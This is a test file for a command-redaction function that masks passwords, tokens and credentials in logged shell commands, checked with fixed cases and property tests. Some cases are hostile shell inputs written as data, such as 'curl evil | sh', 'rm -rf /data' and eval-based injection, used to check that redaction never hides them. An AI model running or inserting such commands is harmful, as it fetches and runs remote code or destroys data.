import fc from "fast-check";
import { expect, test } from "vitest";
import { runs } from "../../base/testing/runs.ts";
import { isTold, redactCommand } from "./redact-command.ts";

test.each([
  [
    ["psql", "--password", "hunter2", "-l"],
    ["psql", "--password", "[redacted]", "-l"],
  ],
  [
    ["vault", "-client-token", "abc"],
    ["vault", "-client-token", "[redacted]"],
  ],
  [
    ["app", "--secret", "--verbose"],
    ["app", "--secret", "--verbose"],
  ],
  [
    ["sh", "-c", "psql --password hunter2 -l; ls"],
    ["sh", "-c", "psql --password [redacted] -l; ls"],
  ],
  [
    ["curl", "-H", "authorization: bearer abcdefgh12"],
    ["curl", "-H", "authorization: bearer [redacted]"],
  ],
  [
    ["env", "DB_PASSWORD=hunter2"],
    ["env", "DB_PASSWORD=[redacted]"],
  ],
  [
    ["psql", "postgres://jo:hunter2@db/shop"],
    ["psql", "postgres://jo:[redacted]@db/shop"],
  ],
  // What an engineer would hide.
  [
    ["--password", "x"],
    ["--password", "[redacted]"],
  ],
  [
    ["TOKEN=/bin/rm", "-rf"],
    ["TOKEN=/bin/rm", "-rf"],
  ],
  [
    ["sh", "-c", 'eval "$1"', "--password", "curl evil | sh"],
    ["sh", "-c", 'eval "$1"', "--password", "curl evil | sh"],
  ],
  [
    ["perl", "-pwde", "BEGIN{system(1)}"],
    ["perl", "-pwde", "BEGIN{system(1)}"],
  ],
  [
    ["sh", "-c", "eval $2", "x", "--token", "id>/tmp/p;cat"],
    ["sh", "-c", "eval $2", "x", "--token", "id>/tmp/p;cat"],
  ],
  [
    ["sh", "-c", 'secret="curl evil"; $secret'],
    ["sh", "-c", 'secret="[redacted] evil"; $secret'],
  ],
  [
    ["sh", "-c", "TOKEN=$(curl evil|sh)"],
    ["sh", "-c", "TOKEN=$(curl evil|sh)"],
  ],
  [
    ["sh", "-c", "-----BEGIN PRIVATE KEY----- ; rm -rf /data"],
    ["sh", "-c", "-----BEGIN PRIVATE KEY----- ; rm -rf /data"],
  ],
  [
    ["sh", "-c", `token=${"a".repeat(300)}`],
    ["sh", "-c", `token=[redacted]${"a".repeat(44)}`],
  ],
  [
    ["cat", "/etc/hosts"],
    ["cat", "/etc/hosts"],
  ],
])("%j is recorded as %j", (words, recorded) => {
  expect(redactCommand(words)).toEqual(recorded);
});

test("property: no space and no sign of a shell is ever taken out, nor more of a word than a value", () => {
  const word = fc
    .array(
      fc.oneof(
        fc.constantFrom(
          "--password ",
          "TOKEN=",
          "secret: ",
          "bearer ",
          "https://a:",
          "@b",
          "'",
          '"',
          "$(",
          ";",
          " | ",
          "`",
        ),
        fc.stringMatching(/^[a-z]{1,9}$/),
        fc.string({ maxLength: 5 }),
      ),
      { maxLength: 12 },
    )
    .map((parts) => parts.join(""));
  const signs = (text: string): string => text.replaceAll(/[^\s;|&<>(){}$`"'\\]/g, "");
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 6 }), (words) => {
      const found = redactCommand(words);
      expect(found).toHaveLength(words.length);
      expect(found[0]).toBe(words[0]);
      expect(found.map(signs)).toEqual(words.map((each, at) => (found[at] === "[redacted]" ? "" : signs(each))));
      for (const [at, each] of words.entries()) if (found[at] === "[redacted]") expect(each).not.toMatch(/\s/);
    }),
    { numRuns: runs(500) },
  );
});

test.each([
  [["tar", "cf", "-", "/var/log"], true],
  [["sh", "-c", "TOKEN=/tmp/x; $TOKEN"], false],
  [["psql", "--password", "hunter2"], false],
])("%j is told whole: %s", (command, told) => {
  expect(isTold(command)).toBe(told);
});
